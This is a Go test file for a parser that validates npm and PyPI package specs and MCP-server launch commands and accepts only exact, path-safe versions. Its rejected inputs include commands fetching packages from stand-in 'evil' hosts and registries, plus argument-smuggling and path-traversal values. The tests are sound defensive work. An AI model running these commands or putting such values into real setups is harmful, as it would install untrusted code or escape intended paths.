package source

import (
	"slices"
	"strings"
	"testing"
)

func TestParse(t *testing.T) {
	for text, want := range map[string]string{
		"npm:@notionhq/notion-mcp-server@2.5.2": "npm:@notionhq/notion-mcp-server@2.5.2",
		"npm:exa-mcp-server":                    "npm:exa-mcp-server",
		"npm:JSONStream@1.0.0-rc.1+b":           "npm:JSONStream@1.0.0-rc.1+b",
		"pypi:mcp-server-time==1.2.3":           "pypi:mcp-server-time==1.2.3",
		"pypi:MCP__server.time==2026.1.26":      "pypi:mcp-server-time==2026.1.26",
		"pypi:a==1!2.0rc1.post2.dev3+local.1":   "pypi:a==1!2.0rc1.post2.dev3+local.1",

		"":                                "",
		"npm":                             "",
		"npm:":                            "",
		"npm:@scope":                      "",
		"npm:@scope/":                     "",
		"npm:a@":                          "",
		"npm:a@latest":                    "",
		"npm:a@^1.0.0":                    "",
		"npm:a@1":                         "",
		"npm:a@1.2.3 --scripts":           "",
		"npm:a@1.2.3\n":                   "",
		"npm:a@1.2.3/../..":               "",
		"npm:--prefix":                    "",
		"npm:@-a/b@1.0.0":                 "",
		"npm:../a@1.0.0":                  "",
		"npm:.bin@1.0.0":                  "",
		"npm:@a/..@1.0.0":                 "",
		"npm:a/b@1.0.0":                   "",
		"npm:@a/b/c@1.0.0":                "",
		"npm:node_modules@1.0.0":          "",
		"npm:a@npm:b@1.0.0":               "",
		"npm:git+ssh://a/b":               "",
		"pypi:a==":                        "",
		"pypi:a==1.*":                     "",
		"pypi:a>=1":                       "",
		"pypi:a[cli]==1":                  "",
		"pypi:-r":                         "",
		"pypi:a-":                         "",
		"pypi:a @ https://b":              "",
		"pypi:a==1==2":                    "",
		"pypi:a==1+A":                     "",
		"gem:a@1.0.0":                     "",
		"a@1.0.0":                         "",
		"npm:" + strings.Repeat("a", 215): "",
	} {
		p, err := Parse(text)
		if got := p.String(); err == nil && got != want || err != nil && want != "" {
			t.Errorf("Parse(%q) = %q, %v; want %q", text, got, err, want)
		}
	}
}

func TestExactVersionIsSaid(t *testing.T) {
	for text, want := range map[string]string{"npm:@a/b": `"npm:@a/b@1.2.3"`, "pypi:a": `"pypi:a==1.2.3"`} {
		if _, err := ParseExact(text); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseExact(%q) says %v, not to write %s", text, err, want)
		}
	}
	if p, err := ParseExact("npm:a@1.0.0"); err != nil || p.Version != "1.0.0" {
		t.Errorf("ParseExact = %v, %v", p, err)
	}
}

func TestCommand(t *testing.T) {
	for line, want := range map[string]string{
		"npx -y @notionhq/notion-mcp-server@2.5.2 --port 1": "npm:@notionhq/notion-mcp-server@2.5.2  --port 1",
		"/usr/bin/npx -y exa-mcp-server@latest":             "npm:exa-mcp-server ",
		"npx -p @a/b@1.0.0 tool -x":                         "npm:@a/b@1.0.0 tool -x",
		"npm exec --package=@a/b@v1.0.0 -- tool":            "npm:@a/b@1.0.0 tool",
		"bunx a@1.0.0":                                      "npm:a@1.0.0 ",
		"pnpm dlx a":                                        "npm:a ",
		"uvx mcp-server-time@1.2.3 --local-timezone UTC":    "pypi:mcp-server-time==1.2.3  --local-timezone UTC",
		"uvx mcp_server_git==1.2":                           "pypi:mcp-server-git==1.2 ",
		"uvx --from mcp-server-time==1.2.3 mcp-time":        "pypi:mcp-server-time==1.2.3 mcp-time",
		"uv tool run --python 3.12 mcp-server-time":         "pypi:mcp-server-time ",
		"uv run --with a --no-project b":                    "pypi:a b",
		"pipx run --spec a==1.0 b c":                        "pypi:a==1.0 b c",
		"python3 -u -m mcp_server_git --repository /srv":    "pypi:mcp-server-git  --repository /srv",

		"":                               "",
		"node server.js":                 "",
		"npx":                            "",
		"npx -y":                         "",
		"npx -c id":                      "",
		"npx --registry https://evil a":  "",
		"npx -p a -p b c":                "",
		"npx -p a --version":             "",
		"npx -p a ../../bin/sh":          "",
		"npx --prefix /srv/a b":          "",
		"npx a@^1":                       "",
		"npx a@npm:b":                    "",
		"npx github:evil/a":              "",
		"npx ./a":                        "",
		"npx https://evil.example/a.tgz": "",
		"uvx a[cli]":                     "",
		"uvx a>=1":                       "",
		"uvx --index https://evil a":     "",
		"uvx git+https://evil.example/a": "",
		"uv run a":                       "",
		"python3 server.py":              "",
		"python3 -c 1":                   "",
		"python3 -X frozen -m a":         "",
		"python3 -m":                     "",
		"python3 -m ../a":                "",
	} {
		p, args, err := Command(strings.Fields(line))
		got := strings.Join(append([]string{p.String(), p.Bin}, args...), " ")
		if err == nil && strings.TrimRight(got, " ") != strings.TrimRight(want, " ") || err != nil && want != "" {
			t.Errorf("Command(%q) = %q, %v; want %q", line, got, err, want)
		}
	}
}

// FuzzParse holds that a package is the same when it is written and read again, and is harmless in paths and arguments.
func FuzzParse(f *testing.F) {
	for _, text := range []string{"npm:@a/b@1.0.0", "pypi:A_b==1.0", "npm:a@..", "npm:@a/../b", "npx -y a@1"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		p, err := Parse(text)
		if words := strings.Fields(text); err != nil {
			p, _, err = Command(words)
		}
		if err != nil {
			return
		}
		again, err := Parse(p.String())
		if again.Bin = p.Bin; err != nil || again != p {
			t.Fatalf("%q is %+v, and read again %+v, %v", text, p, again, err)
		}
		parts := append(strings.Split(p.Name, "/"), p.Version, p.Bin)
		if len(parts) > 4 || slices.ContainsFunc(parts, func(s string) bool {
			return strings.HasPrefix(s, ".") || strings.HasPrefix(s, "-") || strings.ContainsAny(s, "/\\\x00\n ")
		}) {
			t.Fatalf("%q is %+v", text, p)
		}
	})
}
